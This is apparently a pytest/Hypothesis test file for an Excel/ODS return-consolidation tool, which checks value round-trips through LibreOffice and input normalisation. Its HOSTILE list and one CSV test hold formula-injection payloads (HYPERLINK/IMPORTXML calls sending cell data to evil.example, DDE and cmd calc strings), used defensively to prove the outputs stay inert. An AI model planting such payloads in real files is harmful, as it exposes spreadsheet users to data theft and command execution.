"""Property-based tests: random partner values, written into random input cells of a generated workbook, read back
exactly — directly and after a LibreOffice re-save (.xlsx and .ods); partner text never becomes a live formula or a
link in the consolidated outputs; and the normalisation rules of normalise.py.

What a real program does to a value, and what eif-xlsx itself does, are kept apart here; each known difference is
named where it is modelled (see `after_libreoffice` and `ODS_DROPS_TABS`).

Characters left out of generated text, because XML 1.0 — the container of both .xlsx and .ods — cannot carry them:
surrogates (U+D800–U+DFFF, which are not characters at all), the C0 controls U+0000–U+0008, U+000B, U+000C,
U+000E–U+001F, and the non-characters U+FFFE and U+FFFF. (.xlsx escapes the C0 controls as _xHHHH_ and they
survive; .ods has no escape and LibreOffice drops them. Neither can be typed into a cell by a partner.)
Tab, line feed and carriage return are XML characters and are generated.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
import tempfile
import zipfile
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, Phase, assume, example, given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from eif_xlsx.api import consolidate
from eif_xlsx.csvfile import guard
from eif_xlsx.domain.catalog import Catalog
from eif_xlsx.domain.partners import Partner
from eif_xlsx.intake.reader import Return, read_return
from eif_xlsx.normalise import EXCEL_EPOCH, TICK_WORDS, UNTICK_WORDS, as_text, choice, date, number, tick
from eif_xlsx.office import convert
from eif_xlsx.template import layout as layout_mod
from eif_xlsx.template.generate import generate_workbooks
from eif_xlsx.template.layout import BASELINE

from .conftest import INDICATORS_ID, MATRIX_ID, make_workbook, need_soffice

EXCEL_CELL_LIMIT = 32767  # characters in one cell, counted as Excel counts them: UTF-16 code units
XML_FORBIDDEN = "".join(map(chr, [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20)])) + "\ufffe\uffff"
TRIGGERS = ("=", "+", "-", "@")

IN_PROCESS = settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)
FAST = settings(max_examples=300, deadline=None)
# Each example of these runs LibreOffice or a whole import: a failure is reported as found, without minutes of
# shrinking.
SLOW = dict(
    deadline=None,
    phases=(Phase.explicit, Phase.reuse, Phase.generate),
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


# --- the workbook under test ---------------------------------------------------------------------------------------


@cache
def _setup():
    catalog = Catalog.default()
    matrix = catalog.matrix(MATRIX_ID)
    iset = catalog.indicator_set(INDICATORS_ID)
    lay = layout_mod.build(matrix, iset)
    by_kind: dict[str, list] = {}
    for _, _, cell in lay.inputs():
        by_kind.setdefault(cell.kind, []).append(cell)
    return catalog, matrix, iset, by_kind


def key_of(cell) -> tuple[str, str, str, str]:
    return (cell.field, cell.sub_element, cell.item, cell.column)


# --- strategies ----------------------------------------------------------------------------------------------------

# Pieces that plain st.characters() rarely produces: other scripts, emoji (with skin tone, ZWJ sequence, flag),
# right-to-left text and marks, combining marks, invisible spaces, XML-special characters, OOXML's own _xHHHH_
# escape syntax typed literally, and line breaks.
PIECES = (
    "日本語のテキスト",
    "中文",
    "한국어",
    "Ελληνικά",
    "русский",
    "العربية",
    "עברית",
    "हिन्दी",
    "ไทย",
    "ქართული",
    "😀",
    "👍🏽",
    "👩\u200d👩\u200d👧",
    "🇬🇧",
    "🧪",
    "\U000e0001",
    "e\u0301",
    "\u0300",
    "a\u0308\u0323",
    "\u200f",
    "\u202e",
    "\u061c",
    "\u200b",
    "\u200d",
    "\u00a0",
    "\u2003",
    "\ufeff",
    "\u00ad",
    "\u2028",
    "\x85",
    "\x7f",
    "\ufdd0",
    "\U0001fffe",
    "\ue000",
    "&",
    "<",
    ">",
    "]]>",
    '"',
    "'",
    "&amp;",
    "_x0041_",
    "_x000D_",
    "_x005F_",
    "\n",
    "\r\n",
    "\r",
    "\t",
    "  ",
    " ",
)
CHARS = st.characters(codec="utf-8", exclude_categories=("Cs",), exclude_characters=XML_FORBIDDEN)


def free_text(min_size: int = 1, max_size: int = 40) -> st.SearchStrategy[str]:
    return st.lists(st.one_of(CHARS, st.sampled_from(PIECES)), min_size=min_size, max_size=max_size).map("".join)


def utf16_len(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


def fit_excel(text: str, limit: int = EXCEL_CELL_LIMIT) -> str:
    """Cut text to `limit` UTF-16 code units without splitting a surrogate pair."""
    return text.encode("utf-16-le")[: 2 * limit].decode("utf-16-le", errors="ignore")


@st.composite
def long_text(draw) -> str:
    """1,000 characters up to Excel's cell limit (often exactly at it), built from a repeated random chunk."""
    chunk = draw(free_text(1, 30))
    n = draw(st.one_of(st.just(EXCEL_CELL_LIMIT), st.integers(1000, EXCEL_CELL_LIMIT)))
    text = fit_excel((chunk * (n // len(chunk) + 1))[:n])
    assert 0 < utf16_len(text) <= EXCEL_CELL_LIMIT  # longer text is cut by XlsxWriter (see the report)
    return text


HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=DDE("cmd";"/C calc";"A1")',
    "https://evil.example/path",
    "mailto:someone@evil.example",
    "www.evil.example",
)
formula_text = st.one_of(
    st.sampled_from(HOSTILE), st.builds(lambda t, rest: t + rest, st.sampled_from(TRIGGERS), free_text(0, 30))
)
# Text a spreadsheet might be tempted to take for something else.
lookalike_text = st.sampled_from(
    (
        "00123",
        "1e5",
        "TRUE",
        "FALSE",
        "2026-01-01",
        "01/02/2026",
        "1/2",
        "50%",
        "#N/A",
        "#DIV/0!",
        "Err:502",
        "-0",
        "+44 20 7946 0000",
        "'quoted'",
        "  spaced  ",
        "\n",
        "two\nlines",
        "tail\n",
        "\n\nlead",
    )
)
short_text = st.one_of(free_text(), formula_text, lookalike_text)

PADDING = st.text(st.sampled_from(" \t\n\r\u00a0\u200b\u2003"), max_size=3)


@st.composite
def spelled(draw, word: str) -> str:
    """`word` in random case with stray whitespace around it, as a partner (or a paste) might leave it."""
    cased = "".join(c.upper() if draw(st.booleans()) else c.lower() for c in word)
    return draw(PADDING) + cased + draw(PADDING)


tick_yes = st.sampled_from(TICK_WORDS).flatmap(spelled)
tick_no = st.sampled_from(UNTICK_WORDS).flatmap(spelled)
tick_garbage = st.one_of(
    st.sampled_from(("maybe", "✗", "done?", "2", "yes!", "x x", "nope", "1.0", "☐", "✓✓", "tick", "-", "?")),
    free_text(1, 12),
).filter(
    # still not a tick after LibreOffice's line-break rewriting and after .ods loses its tabs (see below)
    lambda s: all(tick(v) is None for v in (s, after_libreoffice(s), after_libreoffice(s).replace("\t", "")))
)


@st.composite
def choice_spelling(draw, choices: tuple[str, ...]) -> tuple[str, str]:
    canonical = draw(st.sampled_from(choices))
    words = [draw(spelled(w)).strip(" \t\n\r\u00a0\u200b\u2003") for w in canonical.split(" ")]
    gaps = [draw(st.sampled_from((" ", "  ", "\u00a0", " \u00a0"))) for _ in words[1:]]
    text = words[0] + "".join(g + w for g, w in zip(gaps, words[1:], strict=True))
    return draw(PADDING) + text + draw(PADDING), canonical


DATE_FORMATS = ("%Y-%m-%d", "%d/%m/%Y", "%d-%m-%Y", "%d.%m.%Y", "%d %B %Y", "%d %b %Y", "%B %d, %Y")
dates = st.dates(dt.date(2000, 1, 1), dt.date(2100, 12, 31))


@st.composite
def date_entry(draw) -> tuple[object, dt.date]:
    d = draw(dates)
    how = draw(st.sampled_from((None, *DATE_FORMATS)))
    return (d if how is None else d.strftime(how)), d


# Excel keeps 15 significant digits (and LibreOffice writes 15); XlsxWriter writes 16. Numbers with at most 15
# significant digits therefore survive exactly everywhere.
numbers = st.one_of(
    st.builds(
        lambda m, e, neg: float(f"{'-' if neg else ''}{m}e{e}"),
        st.integers(0, 10**15 - 1),
        st.integers(-20, 12),
        st.booleans(),
    ),
    st.integers(-(10**12), 10**12).map(float),
)


def after_libreoffice(text: str) -> str:
    """LibreOffice holds a cell with a line feed as paragraphs: there CR LF, LF CR and a lone CR each become one
    LF. Text without a line feed keeps its CRs. (Observed with LibreOffice 7.4, for both .xlsx and .ods.)"""
    if "\n" not in text:
        return text
    return re.sub(r"\r\n|\n\r|\r|\n", "\n", text)


# python-calamine ignores <text:tab/> in .ods cells; the reader turns them into tabs before calamine sees them
# (reader._plain_ods), so tabs survive .ods too (test_tab_survives_ods).
ODS_DROPS_TABS = False


@dataclass(frozen=True)
class Fill:
    category: str  # text | yes | no | garbage | choice | date | number
    written: object
    want: object  # the normalised value expected


@st.composite
def fills(draw, scale: int = 1) -> dict[tuple, Fill]:
    """Random values of every kind, in random input cells of the workbook."""
    _, _, _, by_kind = _setup()
    plan: dict[tuple, Fill] = {}

    def place(kind: str, entries: list[Fill]) -> None:
        cells = by_kind[kind]
        picked = draw(
            st.lists(st.integers(0, len(cells) - 1), unique=True, min_size=len(entries), max_size=len(entries))
        )
        for i, entry in zip(picked, entries, strict=True):
            plan[key_of(cells[i])] = entry

    texts = draw(st.lists(short_text, min_size=1, max_size=15 * scale))
    texts += draw(st.lists(long_text(), max_size=1 + scale))
    place("text", [Fill("text", t, t) for t in texts])
    ticks = [Fill("yes", v, True) for v in draw(st.lists(tick_yes, max_size=10 * scale))]
    ticks += [Fill("no", v, False) for v in draw(st.lists(tick_no, max_size=4 * scale))]
    ticks += [Fill("garbage", v, False) for v in draw(st.lists(tick_garbage, max_size=4 * scale))]
    place("tick", ticks)
    cells = by_kind["choice"]
    for i in draw(st.lists(st.integers(0, len(cells) - 1), unique=True, max_size=6 * scale)):
        written, canonical = draw(choice_spelling(cells[i].choices))
        plan[key_of(cells[i])] = Fill("choice", written, canonical)
    for cell in by_kind["date"]:
        entry = draw(st.none() | date_entry())
        if entry is not None:
            plan[key_of(cell)] = Fill("date", *entry)
    place("number", [Fill("number", x, x) for x in draw(st.lists(numbers, max_size=8 * scale))])
    return plan


def write(folder: Path, plan: dict[tuple, Fill]) -> Path:
    _, matrix, iset, _ = _setup()
    # No partner: the cover is not pre-filled, so every input not in the plan is blank.
    return make_workbook(folder, matrix, {k: f.written for k, f in plan.items()}, partner=None, indicators=iset)


# --- checks --------------------------------------------------------------------------------------------------------


def cells_of(ret: Return) -> set[tuple[str, str, str]]:
    return {(f.code, f.sheet, f.cell) for f in ret.findings}


def check_direct(ret: Return, plan: dict[tuple, Fill]) -> None:
    assert ret.readable, ret.findings
    got = {a.key: a for a in ret.answers}
    garbage = set()
    for key, fill in plan.items():
        a = got[key]
        assert a.formula == "", (key, a.formula)
        if fill.category == "text":
            assert (a.value, a.raw_text, a.problem) == (fill.written, fill.written, ""), key
        elif fill.category in ("yes", "no"):
            assert (a.value, a.problem, a.raw_text) == (fill.want, "", fill.written), key
        elif fill.category == "garbage":
            assert (a.value, a.problem, a.raw_text) == (False, "unrecognised-tick", fill.written), key
            garbage.add(("unrecognised-tick", a.sheet, a.cell))
            message = next(f.message for f in ret.findings if (f.sheet, f.cell) == (a.sheet, a.cell))
            assert f"'{fill.written}'" in message
        elif fill.category == "choice":
            assert (a.value, a.problem, a.raw_text) == (fill.want, "", fill.written), key
        else:  # date, number
            assert a.value == fill.want and type(a.value) is type(fill.want) and not a.problem, (key, a.value)
    for key, a in got.items():
        if key not in plan:
            assert a.raw_text == "" and a.value in (None, False), key
    assert cells_of(ret) == garbage


def ods_variants(text: str, fmt: str) -> set[str]:
    """What a text may read as after a LibreOffice re-save in `fmt`."""
    text = after_libreoffice(text)
    if fmt == "ods" and (ODS_DROPS_TABS or "\n" in text):
        # LibreOffice itself drops tabs from a multi-paragraph cell when it saves .ods: its office:string-value
        # for '\t\t\rFALSE \r\n' is '&#x0a;FALSE &#x0a;' (observed with LibreOffice 7.4).
        return {text, text.replace("\t", "")}
    return {text}


def check_resaved(ret: Return, direct: Return, plan: dict[tuple, Fill], fmt: str) -> None:
    assert ret.readable and ret.format == fmt, ret.findings
    got = {a.key: a for a in ret.answers}
    before = {a.key: a for a in direct.answers}
    for key, fill in plan.items():
        a, b = got[key], before[key]
        assert a.formula == "", (key, a.formula)
        if fill.category in ("text", "yes", "no", "garbage", "choice"):
            assert a.raw_text in ods_variants(b.raw_text, fmt), (key, b.raw_text, a.raw_text)
        if fill.category == "text":
            assert a.value == (a.raw_text or None), key
        else:
            assert a.value == b.value and a.problem == b.problem, (key, b.value, a.value)
    for key, a in got.items():
        if key not in plan:
            assert a.raw_text == "" and a.value in (None, False), key
    assert cells_of(ret) == cells_of(direct)


# --- round trips ---------------------------------------------------------------------------------------------------


@pytest.mark.slow
@IN_PROCESS
@given(plan=fills())
def test_random_fills_survive_reading(plan):
    with tempfile.TemporaryDirectory(prefix="eif-prop-") as tmp:
        path = write(Path(tmp), plan)
        check_direct(read_return(path, _setup()[0]), plan)


@pytest.fixture(scope="module")
def soffice_present():
    need_soffice()


@pytest.mark.slow
@pytest.mark.libreoffice
@settings(max_examples=5, **SLOW)
@given(plan=fills(scale=4))
def test_random_fills_survive_libreoffice(soffice_present, plan):
    """Many values per workbook, so that one LibreOffice run per format checks them all."""
    catalog = _setup()[0]
    with tempfile.TemporaryDirectory(prefix="eif-prop-lo-") as tmp:
        path = write(Path(tmp) / "gen", plan)
        direct = read_return(path, catalog)
        check_direct(direct, plan)
        for fmt in ("xlsx", "ods"):
            check_resaved(read_return(convert(path, fmt, Path(tmp) / fmt), catalog), direct, plan, fmt)


def _text_workbook(tmp: Path, texts: list[str]) -> tuple[Path, list[tuple]]:
    """One workbook with `texts` in the first text inputs; returns it and the answer keys in order."""
    _, matrix, _, by_kind = _setup()
    keys = [key_of(c) for c in by_kind["text"] if not c.field.startswith("indicator_")][: len(texts)]
    return make_workbook(tmp, matrix, dict(zip(keys, texts, strict=True)), partner=None), keys


def _texts(path: Path, keys: list[tuple]) -> list:
    ret = read_return(path, _setup()[0])
    assert ret.readable, ret.findings
    return [ret.answer(*k).value for k in keys]


@pytest.mark.slow
@pytest.mark.libreoffice
def test_libreoffice_line_breaks_and_controls(tmp_path, soffice_present):
    """The documented differences, on fixed values: CR/LF handling (LibreOffice), and C0 controls — kept in .xlsx
    through its _xHHHH_ escapes, dropped in .ods, which cannot hold them."""
    texts = [
        "a\r\nb",
        "a\r\r\nb",
        "a\n\rb",
        "a\r \nb",
        "a\r\n\r\nb",
        "a\rb",
        "\ra",
        "a\r",
        "x\x01y",
        "x\x1fy",
        "x\x0by",
        "x\x00y",
    ]
    path, keys = _text_workbook(tmp_path / "gen", texts)
    assert _texts(path, keys) == texts  # XlsxWriter escapes the controls and CR as _xHHHH_: all intact
    assert [after_libreoffice(t) for t in texts[:6]] == ["a\nb", "a\n\nb", "a\nb", "a\n \nb", "a\n\nb", "a\rb"]
    for fmt in ("xlsx", "ods"):
        want = [after_libreoffice(t) for t in texts]
        if fmt == "ods":
            want = ["".join(ch for ch in t if ch not in XML_FORBIDDEN) for t in want]
        assert _texts(convert(path, fmt, tmp_path / fmt), keys) == want, fmt


@pytest.mark.slow
@pytest.mark.libreoffice
def test_tab_survives_ods(tmp_path, soffice_present):
    texts = ["lead\ttab", "\tx", "a  \t  b"]
    path, keys = _text_workbook(tmp_path / "gen", texts)
    assert _texts(convert(path, "ods", tmp_path / "ods"), keys) == texts


def test_overlapping_escape_syntax_survives_the_writer(tmp_path):
    """XlsxWriter escapes only the first of two '_xHHHH_' patterns sharing an underscore; such text goes in as
    runs cut inside each pattern, rich-text lookalikes too."""
    texts = ["_x0041_x0042_", "x_x0041_x0042_x0043_", "_x005F_x0041_", "<r>_x0041_x0042_</r>", "_x0041_ and _x0042_"]
    path, keys = _text_workbook(tmp_path, texts)
    assert _texts(path, keys) == texts


@pytest.mark.slow
@pytest.mark.libreoffice
def test_overlapping_escape_syntax_survives_libreoffice(tmp_path, soffice_present):
    """LibreOffice undoes the escapes of each run apart, as calamine does: the runs read back as the text (seen in
    the .ods it saves, which holds text unescaped: the .xlsx it saves escapes only the first of two overlapping
    patterns, as xlsxwriter's write_string does)."""
    texts = ["_x0041_x0042_", "_x005F_x0041_", "<r>_x0041_x0042_</r>", "_x0041_"]
    path, keys = _text_workbook(tmp_path / "gen", texts)
    assert _texts(convert(path, "ods", tmp_path / "ods"), keys) == texts


def test_rich_text_lookalikes_survive_the_writer(tmp_path):
    """XlsxWriter writes text shaped like its rich-text XML raw; pre-filled, it goes in as two plain runs."""
    texts = ["<r>x</r>", "<r><t>INJECTED</t></r>", "<r></r>", "<r>a & b</r>", "<r> spaced </r>"]
    path, keys = _text_workbook(tmp_path, texts)
    assert _texts(path, keys) == texts


# --- partner text stays inert in the consolidated outputs ----------------------------------------------------------

TEXT_FIELDS = (
    ("notes", "1.1", "", ""),
    ("barrier", "1.1", "1", ""),
    ("priority_action", "1.1", "1", ""),
    ("owner", "1.1", "1", ""),
    ("action_notes", "1.1", "1", ""),
    ("supporting_other", "2", "Other 1", ""),
    ("barrier", "2", "3", ""),
    ("notes", "2", "", ""),
    ("respondent_role", "", "", ""),
)
SHOWN_IN_SUMMARY = {"notes", "barrier", "priority_action", "owner", "action_notes", "supporting_other"}
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
# A CR not followed by LF is left out here: the CSV writer does not quote it, which splits the row (a bug, shown by
# test_csv_keeps_a_lone_cr_inside_its_field).
hostile_text = st.one_of(st.sampled_from(HOSTILE), formula_text).filter(
    lambda s: s.strip() != "" and not re.search(r"\r(?!\n)", s)
)


@pytest.mark.slow
@pytest.mark.filterwarnings("ignore:Sparkline Group extension")
@settings(max_examples=6, **SLOW)
@given(
    texts=st.lists(hostile_text, min_size=len(TEXT_FIELDS) + 2, max_size=len(TEXT_FIELDS) + 2),
    names=st.lists(hostile_text.map(lambda s: s[:40]), min_size=3, max_size=3),
)
@example(texts=list(HOSTILE[: len(TEXT_FIELDS) + 2]), names=list(HOSTILE[-3:]))
def test_summary_never_holds_a_live_formula_or_link(texts, names):
    catalog, matrix, iset, _ = _setup()
    partners = [Partner(f"P{i}", names[i], texts[i][:40], f"p{i}@example.org") for i in range(3)]
    prefill = {}
    placed: list[tuple[str, str]] = []  # (field, text)
    for i, p in enumerate(partners):
        answers: dict = {("criterion", "1.1", "1.1a", BASELINE): "✓"}
        for j, field_key in enumerate(TEXT_FIELDS):
            text = texts[(i + j) % len(texts)]
            answers[field_key] = text
            placed.append((field_key[0], text))
        # One period for all: periods of different shapes crash the tracker (test_tracker_orders_any_periods).
        answers[("indicator_period", "", "cp1-1-po1", "")] = texts[0]
        answers[("indicator_value", "", "cp1-1-po1", "")] = 10.0 + i
        answers[("indicator_commentary", "", "cp1-1-po1", "")] = texts[-1 - i]
        prefill[p.id] = ("", answers, {})
    with tempfile.TemporaryDirectory(prefix="eif-prop-sum-") as tmp:
        returns, out = Path(tmp) / "returns", Path(tmp) / "out"
        generate_workbooks(matrix, returns, partners, indicators=iset, prefill=prefill)
        (returns / "manifest.csv").unlink()
        consolidate([returns], out, catalog=catalog, indicators=INDICATORS_ID, jobs=1)
        partner_text = {t for t in texts + names + [p.organisation for p in partners]}
        distinctive = {t for t in partner_text if len(t.strip()) >= 5}
        for name in ("summary.xlsx", "tracker.xlsx"):
            _assert_inert_workbook(out / name, partner_text, distinctive)
        shown = _strings(out / "summary.xlsx")
        missing = {t for f, t in placed if f in SHOWN_IN_SUMMARY} - shown
        assert not missing, missing  # the test means something: the texts are in the summary, as text
        csv_texts: set[str] = set()
        for path in sorted(out.glob("*.csv")):
            with path.open(newline="", encoding="utf-8") as fh:
                for row in list(csv.reader(fh))[1:]:
                    for value in row:
                        if value.startswith(TRIGGERS):
                            assert _PLAIN_NUMBER.match(value), (path.name, value)
                        csv_texts.add(value)
        for t in partner_text:
            # the documented rule (csvfile): = + - @ tab CR, and the apostrophe itself, unless a plain number
            want = "'" + t if t.startswith((*TRIGGERS, "\t", "\r", "'")) and not _PLAIN_NUMBER.match(t) else t
            assert want == guard(t)
        answers_csv = {t for f, t in placed}
        assert {guard(t) for t in answers_csv} <= csv_texts


@pytest.mark.slow
def test_tracker_orders_any_periods(tmp_path):
    catalog, matrix, iset, _ = _setup()
    partners = [Partner("P1", "Ann", "Org A", "a@example.org"), Partner("P2", "Bob", "Org B", "b@example.org")]
    prefill = {
        p.id: (
            "",
            {
                ("criterion", "1.1", "1.1a", BASELINE): "✓",
                ("indicator_period", "", "cp1-1-po1", ""): period,
                ("indicator_value", "", "cp1-1-po1", ""): 5.0,
            },
            {},
        )
        for p, period in zip(partners, ("2026 Q1", "Q2 2026"), strict=True)
    }
    generate_workbooks(matrix, tmp_path / "returns", partners, indicators=iset, prefill=prefill)
    (tmp_path / "returns" / "manifest.csv").unlink()
    consolidate([tmp_path / "returns"], tmp_path / "out", catalog=catalog, indicators=INDICATORS_ID, jobs=1)
    header = [c.value for c in openpyxl.load_workbook(tmp_path / "out" / "tracker.xlsx")["Tracker"][4]]
    assert "2026 Q1" in header and "Q2 2026" in header


@pytest.mark.slow
def test_csv_keeps_a_lone_cr_inside_its_field(tmp_path):
    catalog, matrix, _, _ = _setup()
    text = "see below\r=cmd|' /C calc'!A0"
    prefill = {"P1": ("", {("criterion", "1.1", "1.1a", BASELINE): "✓", ("notes", "1.1", "", ""): text}, {})}
    generate_workbooks(matrix, tmp_path / "returns", [Partner("P1", "Ann", "Org A", "a@example.org")], prefill=prefill)
    (tmp_path / "returns" / "manifest.csv").unlink()
    consolidate([tmp_path / "returns"], tmp_path / "out", catalog=catalog, jobs=1)
    with (tmp_path / "out" / "answers.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert not [v for row in rows for v in row if v.startswith(TRIGGERS)]
    assert [row[7] for row in rows if row[3] == "notes"] == [text]


def _strings(path: Path) -> set[str]:
    """Every text value, read with calamine (openpyxl does not undo the _x000D_ escape of a CR)."""
    wb = CalamineWorkbook.from_path(str(path))
    try:
        return {
            v
            for name in wb.sheet_names
            for row in wb.get_sheet_by_name(name).to_python()
            for v in row
            if isinstance(v, str)
        }
    finally:
        wb.close()


def _assert_inert_workbook(path: Path, partner_text: set[str], distinctive: set[str]) -> None:
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.endswith(".rels"):
                assert b"relationships/hyperlink" not in zf.read(name), (path.name, name)
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        assert not ws._hyperlinks, (path.name, ws.title)
        for row in ws.iter_rows():
            for c in row:
                if c.value is None:
                    continue
                if c.data_type == "f":
                    formula = str(c.value)
                    assert not [t for t in distinctive if t in formula], (path.name, ws.title, c.coordinate, formula)
                elif isinstance(c.value, str) and (c.value in partner_text or any(t in c.value for t in distinctive)):
                    assert c.data_type == "s", (path.name, ws.title, c.coordinate, c.value)
                    assert c.hyperlink is None


# --- normalise.py --------------------------------------------------------------------------------------------------


@FAST
@given(tick_yes)
def test_any_spelling_of_a_tick_word_is_a_tick(text):
    assert tick(text) is True


@FAST
@given(tick_no)
def test_any_spelling_of_an_untick_word_is_not_ticked(text):
    assert tick(text) is False


@FAST
@given(st.one_of(free_text(0, 12), st.sampled_from(TICK_WORDS + UNTICK_WORDS).flatmap(spelled)))
def test_tick_agrees_with_the_word_lists(text):
    """Oracle: collapse every run of whitespace (and no-break/zero-width spaces) to one space, trim, lower-case."""
    cleaned = re.sub(r"[\s\u00a0\u200b]+", " ", text).strip().lower()
    want = True if cleaned in TICK_WORDS else False if cleaned in UNTICK_WORDS else None
    assert tick(text) is want


@FAST
@given(st.one_of(st.integers(-(10**6), 10**6), st.floats(allow_nan=False), st.booleans()))
def test_tick_of_numbers_and_booleans(value):
    """A spreadsheet stores a typed 1 or TRUE as a number or boolean: 1/TRUE tick, 0/FALSE untick, others are not."""
    want = True if value in (1, True) else False if value in (0, False) else None
    assert tick(value) is want


@FAST
@given(st.integers(-(10**15) + 1, 10**15 - 1))
def test_as_text_of_a_whole_float_has_no_point_zero(n):
    assert as_text(float(n)) == str(n)
    assert as_text(n) == str(n)


@FAST
@given(st.floats(allow_nan=False, allow_infinity=False))
def test_as_text_of_a_float_reads_back_as_the_same_number(x):
    text = as_text(x)
    assert float(text) == x and number(text) == x
    if x.is_integer() and abs(x) < 1e15:
        assert "." not in text and "e" not in text.lower()


@FAST
@given(st.floats(allow_nan=False), st.sampled_from(("", " ", "\u00a0")))
def test_number_from_a_number_or_its_text(x, pad):
    assert number(x) == x
    if x == x and abs(x) != float("inf"):
        assert number(pad + repr(x) + pad) == x
    assert number(bool(x)) is None


@FAST
@given(st.integers(0, 10**9), st.integers(0, 99))
def test_number_with_thousands_separators_and_percent(whole, cents):
    text = f"{whole:,}.{cents:02d}"
    assert number(text) == float(f"{whole}.{cents:02d}")
    assert number(text + " %") == number(text + "%") == float(f"{whole}.{cents:02d}")


@FAST
@given(
    st.sampled_from(("nan", "NaN", "inf", "-inf", "Infinity", "+infinity", "1e999", "-1e400", "nan%")),
    st.sampled_from(("", " ", "\u00a0")),
)
def test_number_is_never_nan_or_infinite(text, pad):
    """'NaN' or 'Infinity' typed into a number cell is not a number (it would reach summary.json as a bare NaN)."""
    assert number(pad + text + pad) is None


@FAST
@given(free_text(0, 12))
def test_number_of_any_text_is_a_finite_float_or_none(text):
    got = number(text)
    assert got is None or (isinstance(got, float) and got == got and abs(got) != float("inf"))


@FAST
@given(st.dates(dt.date(1900, 3, 1), dt.date(9999, 12, 31)))
def test_date_from_date_datetime_and_excel_serial(d):
    assert date(d) == d
    assert date(dt.datetime(d.year, d.month, d.day, 13, 45)) == d
    serial = (dt.datetime(d.year, d.month, d.day) - EXCEL_EPOCH).days
    assert date(serial) == d and date(float(serial) + 0.75) == d


@FAST
@given(dates, st.sampled_from(DATE_FORMATS + ("%Y-%m-%dT%H:%M:%S", "%Y-%m-%d %H:%M:%S", "%d %B, %Y")), PADDING)
def test_date_from_text_in_every_accepted_format(d, fmt, pad):
    assert date(pad + d.strftime(fmt) + pad) == d


@FAST
@given(st.dates(dt.date(2000, 1, 1), dt.date(2068, 12, 31)))
def test_date_with_a_two_digit_year(d):
    """%y follows POSIX: 00–68 are 2000–2068 (69–99 are 1969–1999), so two-digit years only reach 2068."""
    assert date(d.strftime("%d/%m/%y")) == d


@FAST
@given(
    st.one_of(
        st.booleans(),
        st.just(""),
        st.just("   "),
        st.sampled_from(("not a date", "32/01/2026", "2026-13-01", "29/02/2025")),
        st.integers(-(10**6), 0),
        st.integers(2958466, 10**9),
    )
)
def test_not_a_date(value):
    assert date(value) is None


@FAST
@given(st.data())
def test_choice_forgives_case_and_spaces(data):
    _, matrix, _, _ = _setup()
    choices = data.draw(st.sampled_from((layout_mod.rating_choices(matrix), matrix.timescale_names, layout_mod.RAG)))
    written, canonical = data.draw(choice_spelling(choices))
    assert choice(written, choices) == canonical
    other = data.draw(free_text(1, 10))
    assume(re.sub(r"[\s\u00a0\u200b]+", " ", other).strip().lower() not in {c.lower() for c in choices})
    assert choice(other, choices) is None
